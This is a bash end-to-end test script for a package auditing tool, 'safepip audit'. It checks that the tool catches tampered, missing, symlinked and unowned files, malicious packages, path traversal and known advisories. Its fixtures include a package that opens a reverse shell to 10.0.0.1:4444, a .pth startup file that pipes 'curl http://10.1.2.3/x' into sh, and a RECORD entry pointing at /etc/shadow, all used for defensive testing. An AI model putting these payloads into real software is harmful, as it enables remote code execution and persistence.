#!/usr/bin/env bash
# `safepip audit` end to end, on a real venv populated by the real pip:
#   - a clean environment passes (exit 0), as text and as JSON
#   - a file changed after install is found (installed-file-modified, exit 1)
#   - a file deleted after install, and one replaced by a symlink, are found
#   - a .pth that no distribution owns is scanned and flagged
#   - an installed package whose code is malicious is blocked
#   - a RECORD pointing outside the environment is never read
#   - -r FILE judges a requirements file against a real index, installing nothing
#   - bad usage and a missing interpreter give clear errors
# Args: SAFEPIP SOURCE_DIR SCRATCH_DIR
set -uo pipefail
SP=$1 SRC=$2 T=$3
rm -rf "$T" && mkdir -p "$T/home" "$T/whl" "$T/tmp" && chmod 755 "$T"
fails=0 passes=0
ok() { passes=$((passes + 1)); echo "ok: $*"; }
bad() { fails=$((fails + 1)); echo "FAIL: $*"; }
PY=$(python3 -c 'import sys; print(sys.executable)')
MK() { "$PY" "$SRC/tests/support/mkpkg.py" "$@" >/dev/null || { echo "cannot build $*"; exit 1; }; }

mkdir -p "$T/src/tidy/tidy" "$T/src/evil/evil"
echo 'def fmt(s): return s.strip()' >"$T/src/tidy/tidy/__init__.py"
echo 'X = 1' >"$T/src/tidy/tidy/util.py"
cat >"$T/src/evil/evil/__init__.py" <<'PY'
import base64, os, socket, subprocess
s = socket.socket(); s.connect(("10.0.0.1", 4444))
os.dup2(s.fileno(), 0); subprocess.call(["/bin/sh", "-i"])
exec(base64.b64decode("cHJpbnQoMSk="))
PY
MK wheel "$T/src/tidy" "$T/whl" --name tidy --version 1.0
MK wheel "$T/src/evil" "$T/whl" --name evilpkg --version 1.0

CLEAN=(env -i "PATH=/usr/bin:/bin" "HOME=$T/home" "TMPDIR=$T/tmp" "SAFEPIP_CACHE_DIR=$T/cache"
       "XDG_STATE_HOME=$T/state")
"$PY" -m venv --without-pip "$T/venv" || exit 1
"$PY" -m pip --python "$T/venv/bin/python" install -q --no-index --find-links "$T/whl" tidy \
    2>/dev/null || "$PY" -m pip install -q --no-index --find-links "$T/whl" \
    --target "$("$T/venv/bin/python" -c 'import sysconfig; print(sysconfig.get_paths()["purelib"])')" tidy
SITE=$("$T/venv/bin/python" -c 'import sysconfig; print(sysconfig.get_paths()["purelib"])')
[ -f "$SITE/tidy/__init__.py" ] || { echo "FAIL: pip did not install tidy"; exit 1; }
AUDIT() { "${CLEAN[@]}" "$SP" audit --python "$T/venv/bin/python" -q "$@"; }

# A clean environment.
AUDIT >"$T/out" 2>"$T/err"; rc=$?
if [ $rc -eq 0 ] && grep -q 'tidy' "$T/out"; then ok "clean venv passes"; else bad "clean venv: rc=$rc"; cat "$T/out" "$T/err"; fi
AUDIT --format json >"$T/out.json" 2>"$T/err"; rc=$?
if [ $rc -eq 0 ] && "$PY" -c '
import json, sys
r = json.load(open(sys.argv[1]))
names = [a.get("name") for a in r["artifacts"]]
assert "tidy" in names, names
' "$T/out.json"; then ok "json lists the installed distributions"; else bad "json: rc=$rc"; fi

AUDIT --format sarif -o "$T/out.sarif" 2>"$T/err"; rc=$?
if [ $rc -eq 0 ] && "$PY" -c '
import json, sys
r = json.load(open(sys.argv[1]))
assert r["version"] == "2.1.0" and r["runs"][0]["tool"]["driver"]["name"] == "safepip", r.keys()
' "$T/out.sarif"; then ok "sarif output"; else bad "sarif: rc=$rc"; fi
AUDIT --format html -o "$T/out.html" 2>"$T/err"; rc=$?
[ $rc -eq 0 ] && grep -q '<!DOCTYPE html>' "$T/out.html" && grep -q 'tidy' "$T/out.html" && ok "html output" || bad "html: rc=$rc"

# Changed after install.
echo 'import os; os.system("id")' >>"$SITE/tidy/util.py"
AUDIT --format json >"$T/out.json" 2>"$T/err"; rc=$?
if [ $rc -eq 1 ] && "$PY" -c '
import json, sys
r = json.load(open(sys.argv[1]))
f = [f for a in r["artifacts"] for f in a["findings"] if f["rule"] == "installed-file-modified"]
assert f and f[0]["path"] == "tidy/util.py", f
' "$T/out.json"; then ok "a modified file is found and fails the audit"; else bad "modified: rc=$rc"; cat "$T/out.json" | head -50; fi
AUDIT --fail-on never >/dev/null 2>&1; rc=$?
[ $rc -eq 0 ] && ok "--fail-on never exits 0" || bad "--fail-on never: rc=$rc"

# Deleted, and replaced by a link.
rm "$SITE/tidy/util.py"
ln -s /etc/hostname "$SITE/tidy/__init__.py.tmp" && mv -T "$SITE/tidy/__init__.py.tmp" "$SITE/tidy/__init__.py"
AUDIT --format json --fail-on never >"$T/out.json" 2>"$T/err"
if "$PY" -c '
import json, sys
r = json.load(open(sys.argv[1]))
rules = {(f["rule"], f["path"]) for a in r["artifacts"] for f in a["findings"]}
assert ("installed-file-missing", "tidy/util.py") in rules, rules
assert ("installed-file-replaced", "tidy/__init__.py") in rules, rules
' "$T/out.json"; then ok "deleted and replaced files are found"; else bad "deleted/replaced"; cat "$T/err"; fi

# A start-up file nobody owns.
echo 'import os; os.system("curl http://10.1.2.3/x | sh")' >"$SITE/zzz-persist.pth"
AUDIT --format json --fail-on never >"$T/out.json" 2>"$T/err"
if "$PY" -c '
import json, sys
r = json.load(open(sys.argv[1]))
a = [a for a in r["artifacts"] if "no distribution owns" in a["target"]]
assert a, [x["target"] for x in r["artifacts"]]
rules = {f["rule"] for f in a[0]["findings"]}
assert "installed-unowned-startup" in rules and "pth-exec" in rules, rules
' "$T/out.json"; then ok "an unowned .pth is scanned and flagged"; else bad "unowned .pth"; fi
rm -f "$SITE/zzz-persist.pth"

# Malicious code installed by pip without the gate.
"$PY" -m pip --python "$T/venv/bin/python" install -q --no-index --find-links "$T/whl" evilpkg \
    >/dev/null 2>&1 || "$PY" -m pip install -q --no-index --find-links "$T/whl" --target "$SITE" evilpkg >/dev/null 2>&1
AUDIT >"$T/out" 2>"$T/err"; rc=$?
if [ $rc -eq 1 ] && grep -q 'evilpkg' "$T/out" && grep -q 'verdict: block' "$T/out"; then
    ok "an installed malicious package is blocked"; else bad "malicious: rc=$rc"; cat "$T/out" | tail -20; fi

# A RECORD that points outside the environment is reported, not read.
REC=$(ls -d "$SITE"/evilpkg-1.0.dist-info)/RECORD
echo '../../../../../../../../etc/shadow,sha256=AAAA,1' >>"$REC"
AUDIT --format json --fail-on never >"$T/out.json" 2>"$T/err"
if "$PY" -c '
import json, sys
r = json.load(open(sys.argv[1]))
f = [f for a in r["artifacts"] for f in a["findings"] if f["rule"] == "installed-outside-prefix"]
assert f and "etc/shadow" in f[0]["path"], f
' "$T/out.json"; then ok "a RECORD path outside the venv is reported"; else bad "outside prefix"; fi

# Known advisories against what is installed, offline, with the version to upgrade to.
cat >"$T/recs.json" <<'JSON'
[
 {"schema_version": "1.6.0", "id": "PYSEC-2099-7", "modified": "2099-01-01T00:00:00Z",
  "aliases": ["CVE-2099-0007"], "summary": "Code execution in tidy",
  "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"}],
  "affected": [{"package": {"ecosystem": "PyPI", "name": "tidy"},
                "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "1.2"}]}]}]},
 {"schema_version": "1.6.0", "id": "GHSA-tidy-tidy-tidy", "modified": "2099-01-01T00:00:00Z",
  "summary": "Another flaw in tidy 1.2",
  "affected": [{"package": {"ecosystem": "PyPI", "name": "tidy"},
                "versions": ["1.2"],
                "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "1.2"}, {"fixed": "1.3.1"}]}]}]}
]
JSON
"$PY" "$SRC/tests/support/osvgen.py" fixture "$T/osv.zip" --json "$T/recs.json" >/dev/null || exit 1
ADB=("SAFEPIP_ADVISORY_DB=$T/adv.sqlite")
"${CLEAN[@]}" "${ADB[@]}" "$SP" advisories sync --from "$T/osv.zip" >/dev/null 2>&1 || bad "advisories sync"
"${CLEAN[@]}" "${ADB[@]}" "$SP" audit --python "$T/venv/bin/python" -q --fail-on never >"$T/out" 2>"$T/err"
if grep -q 'PYSEC-2099-7' "$T/out" && grep -q 'tidy 1.0: PYSEC-2099-7; upgrade to 1.3.1 or later' "$T/out"; then
    ok "an installed version with an advisory is reported with the release that fixes everything"
else bad "advisory upgrade"; tail -8 "$T/out"; cat "$T/err"; fi

# Usage errors.
AUDIT --format xml >/dev/null 2>"$T/err"; rc=$?
[ $rc -eq 2 ] && grep -q "unknown format" "$T/err" && ok "bad format is a usage error" || bad "bad format rc=$rc"
"${CLEAN[@]}" "$SP" audit --python "$T/nope/bin/python" >/dev/null 2>"$T/err"; rc=$?
[ $rc -eq 3 ] && [ -s "$T/err" ] && ok "a missing interpreter is an error" || bad "missing python rc=$rc"
"${CLEAN[@]}" "$SP" audit stray >/dev/null 2>"$T/err"; rc=$?
[ $rc -eq 2 ] && ok "a stray argument is a usage error" || bad "stray arg rc=$rc"

# -r: a requirements file against a real index, nothing installed.
mkdir -p "$T/idx"
cp "$T/whl"/*.whl "$T/idx/"
"$PY" "$SRC/tests/support/indexserver.py" --root "$T/idx" --tls "$T/certs" \
    --port-file "$T/port" >"$T/server.log" 2>&1 &
SERVER=$!
trap 'kill $SERVER 2>/dev/null' EXIT
for _ in $(seq 100); do [ -s "$T/port" ] && break; sleep 0.05; done
INDEX="https://127.0.0.1:$(cat "$T/port")/simple"
echo 'tidy==1.0' >"$T/ok.txt"
echo 'evilpkg==1.0' >"$T/bad.txt"
"$PY" -m venv --without-pip "$T/venv2"
R() { "${CLEAN[@]}" "PIP_CERT=$T/certs/ca.pem" "VIRTUAL_ENV=$T/venv2" "$SP" audit --index-url "$INDEX" "$@"; }
before=$(ls "$T/venv2/lib"/python3*/site-packages | sort)
R -r "$T/ok.txt" >"$T/out" 2>"$T/err"; rc=$?
[ $rc -eq 0 ] && grep -q 'tidy' "$T/out" && ok "-r: a clean requirements file passes" || { bad "-r clean rc=$rc"; cat "$T/out" "$T/err"; }
R -r "$T/bad.txt" >"$T/out" 2>"$T/err"; rc=$?
[ $rc -eq 1 ] && grep -q 'evilpkg' "$T/out" && ok "-r: a malicious requirement fails the audit" || { bad "-r bad rc=$rc"; cat "$T/out" "$T/err"; }
after=$(ls "$T/venv2/lib"/python3*/site-packages | sort)
[ "$before" = "$after" ] && ok "-r installs nothing" || bad "-r changed the venv"

echo "audit: $passes passed, $fails failed"
[ $fails -eq 0 ]
